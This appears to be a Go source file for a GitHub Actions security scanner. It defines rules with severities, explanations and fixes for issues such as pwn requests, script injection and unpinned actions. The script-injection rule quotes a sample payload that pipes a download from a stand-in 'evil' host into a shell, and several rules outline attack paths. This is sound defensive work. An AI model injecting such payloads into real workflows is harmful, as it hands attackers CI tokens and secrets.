package actions

import "github.com/ward-sec/ward/checks"

// Rule IDs of the GitHub Actions check.
const (
	RulePwnRequest     = "actions-untrusted-checkout"
	RuleInjection      = "actions-script-injection"
	RuleUnpinnedAction = "actions-unpinned-action"
	RuleUnpinnedImage  = "actions-unpinned-image"
	RuleTyposquat      = "actions-typosquat-owner"
	RulePermissions    = "actions-broad-permissions"
	RuleSecrets        = "actions-secrets-exposed"
	RuleEnvInjection   = "actions-github-env-write"
	RuleReleaseCache   = "actions-cache-in-release"
	RulePipeToShell    = "actions-pipe-to-shell"
	RuleAdHocInstall   = "actions-adhoc-install"
	RuleNotAnalysed    = "actions-not-analysed"
)

var rules = []checks.Rule{
	{
		ID: RulePwnRequest, Title: "Privileged workflow checks out and runs pull request code", Severity: checks.SeverityCritical, Family: "actions",
		Why: "pull_request_target, workflow_run and issue_comment workflows run with the base repository's secrets " +
			"and a write token. Checking out the pull request's code (or downloading an artifact its run built) and " +
			"then building or running it (npm install, make, pip install, a local action) hands both to whoever " +
			"opened the pull request (\"pwn request\").",
		Fix: "Build untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass results as " +
			"artifacts to a privileged workflow that never executes them; or do not check out the head at all.",
		FixExample: "on: pull_request          # not pull_request_target\npermissions:\n  contents: read\n" +
			"jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: npm ci && npm test",
		References: []string{"CWE-829", "CWE-94", "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},
	},
	{
		ID: RuleInjection, Title: "Attacker-controlled text expanded into a script", Severity: checks.SeverityHigh, Family: "actions",
		Why: "`${{ }}` is expanded into the script before the shell or JavaScript runs it. An issue title, PR body, " +
			"comment, branch name or commit message such as `\"; curl evil | sh; #` becomes code running with the " +
			"workflow's token and secrets. The same holds one hop away: a step that writes such a value to " +
			"$GITHUB_OUTPUT or $GITHUB_ENV (or core.setOutput / core.exportVariable), an env: entry holding it, " +
			"or a job output built from it, later expanded as ${{ steps.<id>.outputs.<name> }}, ${{ env.NAME }} " +
			"or ${{ needs.<job>.outputs.<name> }}; file lists from tj-actions/changed-files and " +
			"dorny/paths-filter carry names the pull request's author chose.",
		Fix:        "Pass the value through an environment variable and quote it; never interpolate it into code.",
		FixExample: "- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"",
		References: []string{"CWE-94", "CWE-78", "https://securitylab.github.com/resources/github-actions-untrusted-input/"},
	},
	{
		ID: RuleUnpinnedAction, Title: "Action not pinned to a commit SHA", Severity: checks.SeverityMedium, Family: "actions",
		Why: "A tag or branch can be moved to new code at any time by whoever controls the action's repository. " +
			"In March 2025 tj-actions/changed-files had all its tags re-pointed to a commit that dumped CI secrets " +
			"into public logs (CVE-2025-30066).",
		Fix:        "Pin the full 40-character commit SHA and keep the version in a comment (Dependabot updates both).",
		FixExample: "- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
		References: []string{"CWE-829", "CWE-494", "CVE-2025-30066"},
	},
	{
		ID: RuleUnpinnedImage, Title: "Container image not pinned to a digest", Severity: checks.SeverityMedium, Family: "actions",
		Why: "A container image tag can be re-pushed with different content; the job then runs whatever the " +
			"registry serves that day, with the job's token and secrets.",
		Fix:        "Pin the image by digest.",
		FixExample: "container:\n  image: node:20@sha256:<digest>",
		References: []string{"CWE-829", "CWE-494"},
	},
	{
		ID: RuleTyposquat, Title: "Action owner imitates a well-known one", Severity: checks.SeverityHigh, Family: "actions",
		Why: "Attackers register GitHub owners one letter away from well-known ones (actons/, action/, actions-/) " +
			"and publish look-alike actions that steal the workflow's secrets.",
		Fix:        "Use the real owner's action, pinned by commit SHA.",
		FixExample: "- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
		References: []string{"CWE-1357", "CWE-829"},
	},
	{
		ID: RulePermissions, Title: "Broad write permissions on a pull-request workflow", Severity: checks.SeverityMedium, Family: "actions",
		Why: "Workflows triggered by pull requests and comments run code influenced by outsiders. A token with " +
			"write-all, contents, actions, packages or id-token write lets any injection in the workflow push code, " +
			"tamper with releases or mint cloud credentials.",
		Fix:        "Grant the least: `permissions: contents: read` at the top, and only the scopes a job needs.",
		FixExample: "permissions:\n  contents: read\n  pull-requests: write   # only to comment",
		References: []string{"CWE-250", "CWE-732"},
	},
	{
		ID: RuleSecrets, Title: "All secrets handed to a step or reusable workflow", Severity: checks.SeverityMedium, Family: "actions",
		Why: "`secrets: inherit` and `toJSON(secrets)` expose every repository and organisation secret, not just the " +
			"ones needed, to code that may log or exfiltrate them.",
		Fix:        "Pass only the secrets a job needs, by name.",
		FixExample: "uses: org/repo/.github/workflows/deploy.yml@<sha>\nsecrets:\n  DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}",
		References: []string{"CWE-200", "CWE-522"},
	},
	{
		ID: RuleEnvInjection, Title: "GITHUB_ENV or GITHUB_PATH written in a privileged workflow", Severity: checks.SeverityHigh, Family: "actions",
		Why: "Lines written to $GITHUB_ENV or $GITHUB_PATH set environment variables (LD_PRELOAD, NODE_OPTIONS…) or " +
			"the PATH for every later step. In pull_request_target, workflow_run or issue_comment workflows the " +
			"written value often comes from the pull request, which turns into code execution with secrets.",
		Fix:        "Use step outputs ($GITHUB_OUTPUT) for data, validate it strictly, or move the work to an unprivileged workflow.",
		FixExample: "echo \"version=$(jq -r .version package.json)\" >> \"$GITHUB_OUTPUT\"",
		References: []string{"CWE-94", "CWE-427"},
	},
	{
		ID: RuleReleaseCache, Title: "Cache restored in a release workflow", Severity: checks.SeverityMedium, Family: "actions",
		Why: "Caches are shared across workflows of a repository: a pull request workflow can poison a cache that a " +
			"release workflow later restores. Ultralytics 8.3.41 (December 2024) shipped a cryptominer to PyPI this way.",
		Fix:        "Do not restore caches in jobs that build or publish releases; build from clean state.",
		FixExample: "- uses: actions/setup-python@<sha>\n  with:\n    python-version: \"3.12\"   # no cache: in release jobs",
		References: []string{"CWE-349", "CWE-494"},
	},
	{
		ID: RulePipeToShell, Title: "Script downloaded and piped into a shell", Severity: checks.SeverityMedium, Family: "actions",
		Why: "`curl … | sh` runs whatever the server returns at that moment, unverified, with the job's token and " +
			"secrets. A compromised or spoofed host owns the build.",
		Fix:        "Download a pinned version, verify its checksum or signature, then run it; or use a pinned action.",
		FixExample: "curl -fsSLO https://example.com/tool-1.2.3.sh\necho \"<sha256>  tool-1.2.3.sh\" | sha256sum -c -\nsh tool-1.2.3.sh",
		References: []string{"CWE-494", "CWE-829"},
	},
	{
		ID: RuleAdHocInstall, Title: "Tool installed without a pinned version", Severity: checks.SeverityMedium, Family: "actions",
		Why: "`pip install foo`, `npm install -g foo`, `go install foo@latest` in CI take whatever is newest — including " +
			"a compromised release published minutes ago — and run it with the job's secrets.",
		Fix:        "Pin exact versions (and hashes where the tool supports them).",
		FixExample: "pip install 'ruff==0.8.1'\nnpm install -g 'pnpm@9.15.0'\ngo install golang.org/x/tools/cmd/goimports@v0.28.0",
		References: []string{"CWE-1357", "CWE-494"},
	},
	{
		ID: RuleNotAnalysed, Title: "Workflow could not be analysed", Severity: checks.SeverityMedium, Family: "actions",
		Why:        "The workflow or action file is not valid YAML or is over a size limit, so its steps were not reviewed.",
		Fix:        "Fix the YAML (GitHub would reject it too) and push again.",
		FixExample: "actionlint .github/workflows/ci.yml",
		References: []string{"CWE-1104"},
	},
}
